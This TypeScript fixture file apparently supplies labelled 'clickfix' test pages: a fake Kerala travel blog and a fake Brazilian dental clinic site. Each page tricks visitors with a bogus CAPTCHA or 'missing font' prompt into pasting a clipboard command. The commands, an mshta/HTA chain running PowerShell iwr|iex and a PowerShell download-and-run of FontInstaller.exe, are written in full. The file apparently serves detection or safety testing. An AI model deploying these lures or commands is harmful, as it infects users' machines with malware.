import { type Entry } from '../entry.js';
import { doc, pic, js, json, html, css, baseCss } from '../parts/w-kit.js';

export const entries: Entry[] = [
  {
    id: 'w-clickfix-recaptcha-mshta-travel-blog',
    label: 'clickfix',
    kind: 'clickfix',
    url: 'https://wanderwithpriya.in/2025/09/kerala-backwaters-3-day-itinerary/',
    body: doc({
      lang: 'en-IN',
      title: 'Kerala Backwaters: A 3-Day Itinerary (Alleppey & Kumarakom) – Wander with Priya',
      css: baseCss('#0f766e', 'Lora,Georgia,serif'),
      body: `<header class="top"><b>Wander with Priya</b><nav><a href="#">India</a><a href="#">Southeast Asia</a><a href="#">Budget Tips</a></nav></header>
<div class="wrap" style="max-width:760px"><h1>Kerala Backwaters: A 3-Day Itinerary</h1><p>Houseboats, toddy shops and the best karimeen pollichathu I have ever eaten — here is exactly how I spent three days around Alleppey and Kumarakom.</p>
<h2>Day 1: Alleppey</h2><p>Take the morning KSRTC bus from Kochi (₹85) and check into a homestay near the canal…</p></div>
<div id="rc" style="position:fixed;inset:0;background:#000a;display:none;z-index:99"><div style="background:#fff;width:380px;margin:120px auto;padding:20px;font-family:Roboto,Arial;border-radius:3px">
<div style="background:#4a90e2;color:#fff;padding:14px">Complete these Verification Steps<br><small>To better prove you are not a robot, please:</small></div>
<ol style="line-height:2"><li>Press &amp; hold the Windows Key <b>⊞</b> + <b>R</b>.</li><li>In the verification window, press <b>Ctrl</b> + <b>V</b>.</li><li>Press <b>Enter</b> on your keyboard to finish.</li></ol>
<p style="font-size:12px;color:#555">You will observe and agree: “I am not a robot - reCAPTCHA Verification ID: 4412”</p><button id="vb" style="background:#4a90e2;color:#fff;border:0;padding:8px 20px">Verify</button></div></div>
<div id="gate" style="position:fixed;right:20px;bottom:20px;background:#f9f9f9;border:1px solid #d3d3d3;padding:12px 16px;font-family:Roboto,Arial;font-size:14px;display:flex;align-items:center;gap:10px;cursor:pointer;box-shadow:0 0 4px #0002"><span style="width:26px;height:26px;border:2px solid #c1c1c1;background:#fff;display:inline-block"></span> I'm not a robot <small style="color:#999;margin-left:20px">reCAPTCHA</small></div>`,
      scripts: `<script>(function(){var p=['mshta','https://wanderwithpriya.in/wp-content/uploads/2025/09/verify.hta','#','✅ \\'\\'I am not a robot - reCAPTCHA Verification ID: 4412\\'\\''].join(' ');
document.getElementById('gate').onclick=function(){navigator.clipboard.writeText(p).catch(function(){});document.getElementById('rc').style.display='block'};
document.getElementById('vb').onclick=function(){navigator.clipboard.writeText(p)};})();</script>`,
    }),
    routes: {
      'wanderwithpriya.in/wp-content/uploads/2025/09/verify.hta': { status: 200, headers: { 'content-type': 'application/hta' }, body: '<html><head><HTA:APPLICATION ID="v" WINDOWSTATE="minimize"><script language="VBScript">CreateObject("WScript.Shell").Run "powershell -w hidden -c iwr https://wanderwithpriya.in/wp-content/uploads/2025/09/s.ps1 | iex",0:self.close</script></head></html>' },
    },
  },
  {
    id: 'w-clickfix-fonte-ausente-pt',
    label: 'clickfix',
    kind: 'clickfix',
    url: 'https://www.clinicasorrisoperfeito.com.br/tratamentos/clareamento-dental',
    body: doc({
      lang: 'pt-BR',
      title: 'Clareamento Dental – Clínica Sorriso Perfeito',
      css: baseCss('#0ea5e9', 'Arial,sans-serif'),
      body: `<header class="top"><b>Clínica Sorriso Perfeito</b><nav><a href="#">Tratamentos</a><a href="#">Equipe</a><a href="#">Agende sua consulta</a></nav></header>
<div class="wrap" id="ct"><h1>Clareamento Dental</h1><p>O clareamento dental é um procedimento estético seguro que devolve o brilho natural aos seus dentes. Em nossa clínica realizamos clareamento a laser e caseiro supervisionado.</p></div>
<footer>Rua Augusta, 1200 – São Paulo/SP · CRO-SP 44.812 · WhatsApp (11) 99812-4431</footer>`,
      scripts: `<script>setTimeout(function(){
var c=document.getElementById('ct');c.style.filter='blur(4px)';c.innerHTML=c.innerHTML.replace(/[a-zà-ú]/gi,function(){return String.fromCharCode(0x25a0+Math.floor(Math.random()*40))});
var m=document.createElement('div');m.style.cssText='position:fixed;left:50%;top:30%;transform:translateX(-50%);width:520px;background:#fff;border-radius:8px;box-shadow:0 10px 40px #0005;padding:24px;font-family:Segoe UI,Arial;z-index:9';
m.innerHTML='<h2 style="margin-top:0;color:#d93025">A fonte "HoeflerText" não foi encontrada</h2><p>A página não pode ser exibida corretamente porque a fonte <b>HoeflerText</b> está ausente no seu sistema. Para corrigir, instale o pacote de fontes.</p><button id="fx" style="background:#1a73e8;color:#fff;border:0;padding:10px 22px;border-radius:4px">Como corrigir</button><div id="how" style="display:none;margin-top:14px"><p>1. Clique com o botão direito no ícone do Windows e abra o <b>Terminal (Admin)</b> ou <b>PowerShell</b>.<br>2. Clique com o botão direito para colar.<br>3. Pressione <b>Enter</b>.</p><p style="font-size:12px;color:#666">O comando já foi copiado para a sua área de transferência.</p></div>';
document.body.appendChild(m);
document.getElementById('fx').onclick=function(){navigator.clipboard.writeText('$d=\\"$env:TEMP\\\\f.zip\\";iwr https://fonts-pack-update.com/HoeflerText.zip -OutFile $d;Expand-Archive $d \\"$env:APPDATA\\\\fp\\" -Force;start \\"$env:APPDATA\\\\fp\\\\FontInstaller.exe\\"');document.getElementById('how').style.display='block'};
},1500);</script>`,
    }),
  },
];
